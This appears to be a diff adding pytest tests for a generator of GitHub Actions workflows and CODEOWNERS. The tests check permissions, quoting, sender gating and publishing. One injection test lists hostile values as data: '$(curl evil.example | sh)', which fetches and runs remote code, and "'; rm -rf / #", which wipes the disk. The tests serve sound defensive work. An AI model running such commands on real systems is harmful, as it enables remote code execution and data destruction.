@@ -1,0 +1,371 @@
+"""Rendering: which files and jobs a config yields, their permissions, quoting, determinism."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+from jinja2 import UndefinedError
+from repowarden.generator import render
+from repowarden.generator.render import (
+    ACTION,
+    ASSIGN,
+    CHECK,
+    CODEOWNERS,
+    DISMISS,
+    DISPATCH,
+    LINT,
+    UnsafeRenderError,
+    check_invariants,
+    q,
+    render_templates,
+)
+from repowarden.runtime import commands
+from repowarden.runtime.config import Config, parse_config
+from ruamel.yaml import YAML
+
+EXAMPLES = Path(__file__).parents[2] / "examples"
+BASE = """\
+repository: octo-org/widget
+review:
+  admins: [alice, bob]
+  reviewers:
+    carol: [alice]
+    "*": [alice, bob]
+"""
+SENDERS = """\
+dispatch:
+  senders:
+    - {login: "relay-bot[bot]", id: 77}
+    - {login: octo-dispatcher, id: 5, type: User}
+"""
+PIP_COMPILE = "    - {kind: pip-compile, requirements: [requirements.in]}\n"
+FORMAT = "    - {kind: format, commands: [[black, src]], paths: ['src/**']}\n"
+BUILD = "    - {kind: build-and-publish, project: widget, environment: pypi-release}\n"
+
+
+def config(text: str = BASE, *operations: str) -> Config:
+    if operations:
+        text += SENDERS + "  operations:\n" + "".join(operations)
+    return parse_config(text)
+
+
+def load(text: str) -> Any:
+    return YAML(typ="rt", pure=True).load(text)
+
+
+def jobs(files: dict[str, str], path: str) -> dict[str, Any]:
+    return dict(load(files[path])["jobs"])
+
+
+def test_every_example_renders_the_workflows_codeowners_and_action(
+    example: tuple[str, Config],
+) -> None:
+    _name, cfg = example
+    files = render_templates(cfg)
+    expected = {ASSIGN, CHECK, DISMISS, LINT, CODEOWNERS, ACTION}
+    if cfg.dispatch is not None:
+        expected.add(DISPATCH)
+    assert set(files) == expected
+    assert list(files) == sorted(files)
+    assert all(body.endswith("\n") and not body.endswith("\n\n") for body in files.values())
+
+
+def test_no_dispatch_section_means_no_dispatch_workflow() -> None:
+    assert DISPATCH not in render_templates(config())
+
+
+def test_rendering_is_deterministic_whatever_the_order_of_unordered_config_lists() -> None:
+    shuffled = (
+        BASE.replace("[alice, bob]\n  reviewers", "[bob, alice]\n  reviewers")
+        + SENDERS.replace('    - {login: "relay-bot[bot]", id: 77}\n', "")
+        + '    - {login: "relay-bot[bot]", id: 77}\n'
+        + "  operations:\n"
+        + PIP_COMPILE
+    )
+    first = render_templates(config(BASE, PIP_COMPILE))
+    assert render_templates(config(BASE, PIP_COMPILE)) == first
+    assert render_templates(parse_config(shuffled)) == first
+
+
+def test_each_job_gets_the_union_of_its_commands_permissions_with_reasons() -> None:
+    files = render_templates(config(BASE, PIP_COMPILE, BUILD))
+    runs = {  # job -> (commands it runs, whether it publishes), per PLAN.md
+        (ASSIGN, "assign"): (["assign"], False),
+        (CHECK, "check"): (["check"], False),
+        (CHECK, "dismiss-approvals"): (["dismiss-approvals"], False),
+        (DISMISS, "dismiss-runs"): (["dismiss-runs"], False),
+        (LINT, "lint"): (["verify-generated"], False),
+        (DISPATCH, "unprivileged"): (["verify", "operate"], False),
+        (DISPATCH, "announce"): (["announce"], False),
+        (DISPATCH, "apply"): (["verify", "apply"], False),
+        (DISPATCH, "publish"): (["verify", "verify"], True),
+    }
+    seen = set()
+    for (path, job_id), (names, publishes) in runs.items():
+        job = jobs(files, path)[job_id]
+        want: dict[str, str] = {"contents": "read"}
+        for name in names:
+            for permission in commands.load(name).permissions:
+                if want.get(permission.scope) != "write":
+                    want[permission.scope] = permission.level
+        if publishes:
+            want["id-token"] = "write"
+        assert dict(job["permissions"]) == want, (path, job_id)
+        for scope in job["permissions"]:
+            line = files[path].splitlines()[job["permissions"].lc.key(scope)[0]]
+            assert re.search(r"  # \S", line), line
+        seen.add((path, job_id))
+    assert seen == {
+        (p, j) for p in files if p.endswith(".yml") and "workflows" in p for j in jobs(files, p)
+    }
+
+
+def test_every_workflow_grants_nothing_at_the_top() -> None:
+    files = render_templates(config(BASE, PIP_COMPILE, FORMAT, BUILD))
+    for path, body in files.items():
+        if path.startswith(".github/workflows/"):
+            assert load(body)["permissions"] == {}
+            assert "\npermissions: {}\n" in body
+
+
+@pytest.mark.parametrize(
+    ("operations", "expected_jobs"),
+    [
+        ((PIP_COMPILE,), {"unprivileged", "announce", "apply"}),
+        ((FORMAT,), {"unprivileged", "announce", "apply"}),
+        ((BUILD,), {"unprivileged", "publish"}),
+        ((PIP_COMPILE, FORMAT, BUILD), {"unprivileged", "announce", "apply", "publish"}),
+    ],
+)
+def test_dispatch_renders_only_the_jobs_its_operations_need(
+    operations: tuple[str, ...], expected_jobs: set[str]
+) -> None:
+    files = render_templates(config(BASE, *operations))
+    dispatch = jobs(files, DISPATCH)
+    assert set(dispatch) == expected_jobs
+    assert dispatch["unprivileged"]["name"] == "unprivileged-${{ github.event.client_payload.id }}"
+    for job_id in expected_jobs - {"unprivileged"}:
+        assert dispatch[job_id]["name"] == "privileged-${{ github.event.client_payload.id }}"
+    assert "id-token" not in dispatch["unprivileged"]["permissions"]
+    assert dict(dispatch["unprivileged"]["permissions"]) == {"contents": "read"}
+
+
+def test_dispatch_jobs_are_gated_on_every_sender_id_and_the_operation() -> None:
+    files = render_templates(config(BASE, PIP_COMPILE, BUILD))
+    dispatch = jobs(files, DISPATCH)
+    gate = "github.event.sender.id == 5 || github.event.sender.id == 77"
+    assert dispatch["unprivileged"]["if"] == gate
+    assert dispatch["announce"]["if"] == gate
+    assert dispatch["apply"]["if"] == (
+        f"${{{{ !cancelled() && ({gate}) && github.event.client_payload.operation != 'release' }}}}"
+    )
+    assert dispatch["publish"]["if"] == (
+        f"({gate}) && github.event.client_payload.operation == 'release'"
+    )
+    assert load(files[DISPATCH])["on"] == {"repository_dispatch": {"types": ["repowarden"]}}
+
+
+def test_publish_job_uses_trusted_publishing_in_the_configured_environment() -> None:
+    text = (
+        BASE
+        + SENDERS
+        + "  operations:\n"
+        + BUILD.replace("}", ", repository_url: 'https://test.pypi.org/legacy/'}")
+    )
+    publish = jobs(render_templates(parse_config(text)), DISPATCH)["publish"]
+    assert publish["environment"] == "pypi-release"
+    assert publish["needs"] == "unprivileged"
+    step = publish["steps"][-1]
+    assert step["uses"].startswith("pypa/gh-action-pypi-publish@")
+    assert dict(step["with"]) == {
+        "packages-dir": "${{ runner.temp }}/repowarden-artifacts/dist/",
+        "skip-existing": True,
+        "repository-url": "https://test.pypi.org/legacy/",
+    }
+    verify = publish["steps"][-2]["with"]
+    assert dict(verify) == {"command": "verify", "args": "--operation release"}
+
+
+def test_dismiss_approvals_job_exists_only_when_a_push_dismisses_approvals() -> None:
+    on = jobs(render_templates(config()), CHECK)
+    off = BASE.replace("  reviewers:", "  external: {dismiss_on_push: false}\n  reviewers:")
+    assert set(on) == {"check", "dismiss-approvals"}
+    assert "synchronize" in on["dismiss-approvals"]["if"]
+    assert set(jobs(render_templates(parse_config(off)), CHECK)) == {"check"}
+
+
+def test_check_workflow_listens_for_reviews_with_types_and_on_the_merge_queue() -> None:
+    on = load(render_templates(config())[CHECK])["on"]
+    assert list(on["pull_request_review"]) == ["types"]
+    assert on["merge_group"] == {"types": ["checks_requested"]}
+    assert "synchronize" in on["pull_request_target"]["types"]
+
+
+def test_schedule_runner_python_and_branch_come_from_the_config() -> None:
+    text = (
+        BASE.replace(
+            "repository: octo-org/widget",
+            "repository: octo-org/widget\n"
+            "runner: self-hosted-linux\npython_version: '3.13'\ndefault_branch: trunk",
+        )
+        + "dismiss: {schedule: '5 */2 * * 1-5'}\n"
+    )
+    files = render_templates(parse_config(text))
+    assert load(files[DISMISS])["on"]["schedule"] == [{"cron": "5 */2 * * 1-5"}]
+    assert load(files[LINT])["on"]["push"] == {"branches": ["trunk"]}
+    assert load(files[ACTION])["inputs"]["python-version"]["default"] == "3.13"
+    for path in (ASSIGN, CHECK, DISMISS, LINT):
+        assert {job["runs-on"] for job in jobs(files, path).values()} == {"self-hosted-linux"}
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        'x"\nenv: {EVIL: 1}',
+        "x\n    steps: []",
+        "a # comment",
+        "${{ github.event.pull_request.title }}",
+        "$(curl evil.example | sh)",
+        "'; rm -rf / #",
+        '\\" \u2028 \x00 \x1b',
+    ],
+)
+def test_a_config_value_cannot_break_out_of_its_yaml_scalar(hostile: str) -> None:
+    # model_copy skips validation: proves the quoting holds even if validation had a gap.
+    cfg = config().model_copy(update={"runner": hostile})
+    job = jobs(render_templates(cfg), ASSIGN)["assign"]
+    assert job["runs-on"] == hostile
+    assert set(job) == {
+        "name",
+        "runs-on",
+        "timeout-minutes",
+        "concurrency",
+        "permissions",
+        "steps",
+    }
+
+
+@pytest.mark.parametrize("value", ["plain", "3.10", "on", "no", "null", "@x", "a: b", "é ü"])
+def test_q_writes_a_yaml_scalar_that_reads_back_as_the_same_string(value: str) -> None:
+    assert load(f"key: {q(value)}\n")["key"] == value
+    assert q(value).isascii()
+
+
+def test_q_quotes_lists_and_refuses_other_types() -> None:
+    assert load(f"key: {q(['a', 'b c'])}\n")["key"] == ["a", "b c"]
+    with pytest.raises(TypeError):
+        q({"a": "b"})  # type: ignore[arg-type]
+    with pytest.raises(TypeError):
+        q(True)
+
+
+def test_an_undefined_template_variable_is_an_error_not_an_empty_string() -> None:
+    with pytest.raises(UndefinedError):
+        render.environment().from_string("runs-on: {{ config.runnr | q }}").render(config=config())
+
+
+def test_templates_are_read_from_the_installed_package() -> None:
+    from importlib.resources import files
+
+    package = files("repowarden.templates")
+    for template in render.TEMPLATES.values():
+        assert package.joinpath(template).is_file(), template
+
+
+def test_a_template_that_breaks_an_invariant_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+    original = render._load_template
+
+    def tampered(name: str) -> str:
+        return original(name).replace("persist-credentials: false", "persist-credentials: true")
+
+    monkeypatch.setattr(render, "_load_template", tampered)
+    render.environment.cache_clear()
+    try:
+        with pytest.raises(UnsafeRenderError) as caught:
+            render_templates(config())
+    finally:
+        render.environment.cache_clear()
+    assert caught.value.violations
+    assert {v.rule for v in caught.value.violations} == {"checkout"}
+    assert all("persist-credentials" in v.message for v in caught.value.violations)
+
+
+def test_check_invariants_governs_workflows_actions_codeowners_only() -> None:
+    files = render_templates(config())
+    vendored = {".github/repowarden/requirements.txt": "jinja2==3.1.6 --hash=sha256:00\n"}
+    assert check_invariants({**files, **vendored}) == []
+    broken = {**files, ASSIGN: "name: [unclosed\n"}
+    [violation] = check_invariants(broken)
+    assert violation.path == ASSIGN
+    assert "not valid YAML" in violation.message
+
+
+def test_codeowners_keeps_rule_order_and_gives_github_to_the_admins_last() -> None:
+    text = BASE + (
+        "codeowners:\n"
+        "  - {pattern: '*', owners: ['@octo-org/core']}\n"
+        "  - {pattern: 'docs/my guide/', owners: ['@zed', '@Amy', '@zed']}\n"
+        "  - {pattern: .github/, owners: ['@mallory']}\n"
+    )
+    lines = render_templates(parse_config(text))[CODEOWNERS].splitlines()
+    rules = [line for line in lines if line and not line.startswith("#")]
+    assert rules == [
+        "* @octo-org/core",
+        "docs/my\\ guide/ @Amy @zed",
+        ".github/ @mallory",
+        "/.github/ @alice @bob",
+        "/.github/repowarden.yml @alice @bob",
+    ]
+
+
+def test_composite_action_installs_with_hashes_and_passes_values_through_env() -> None:
+    action = load(render_templates(config())[ACTION])
+    assert set(action["inputs"]) == {"command", "args", "token", "python-version"}
+    assert action["inputs"]["command"]["required"] is True
+    assert action["inputs"]["token"]["default"] == ""
+    setup, run = action["runs"]["steps"]
+    assert setup["uses"].startswith("actions/setup-python@")
+    assert "cache" not in setup["with"]
+    assert dict(run["env"]) == {
+        "PYTHON": "${{ steps.python.outputs.python-path }}",
+        "REPOWARDEN_COMMAND": "${{ inputs.command }}",
+        "REPOWARDEN_ARGS": "${{ inputs.args }}",
+        "GITHUB_TOKEN": "${{ inputs.token }}",
+    }
+    script = run["run"]
+    assert "${{" not in script
+    assert (
+        "-m pip install --quiet --disable-pip-version-check --require-hashes -r "
+        '"$GITHUB_WORKSPACE/.github/repowarden/requirements.txt"'
+    ) in script
+    assert 'PYTHONPATH="$GITHUB_WORKSPACE/.github/repowarden"' in script
+    assert '-m repowarden.runtime "$REPOWARDEN_COMMAND" --config' in script
+    assert action["outputs"]["dispatch-id"]["value"] == "${{ steps.run.outputs.dispatch-id }}"
+
+
+def test_only_jobs_that_call_github_hand_the_action_a_token() -> None:
+    files = render_templates(config(BASE, PIP_COMPILE, BUILD))
+    tokens = {}
+    for path in files:
+        if not path.startswith(".github/workflows/"):
+            continue
+        for job_id, job in jobs(files, path).items():
+            for step in job["steps"]:
+                if step.get("uses") == "$/.github/actions/repowarden":
+                    tokens[(job_id, step["with"]["command"])] = "token" in step["with"]
+    assert tokens == {
+        ("assign", "assign"): True,
+        ("check", "check"): True,
+        ("dismiss-approvals", "dismiss-approvals"): True,
+        ("dismiss-runs", "dismiss-runs"): True,
+        ("lint", "verify-generated"): False,
+        ("unprivileged", "verify"): False,
+        ("unprivileged", "operate"): False,
+        ("announce", "announce"): True,
+        ("apply", "verify"): False,
+        ("apply", "apply"): True,
+        ("publish", "verify"): False,
+    }
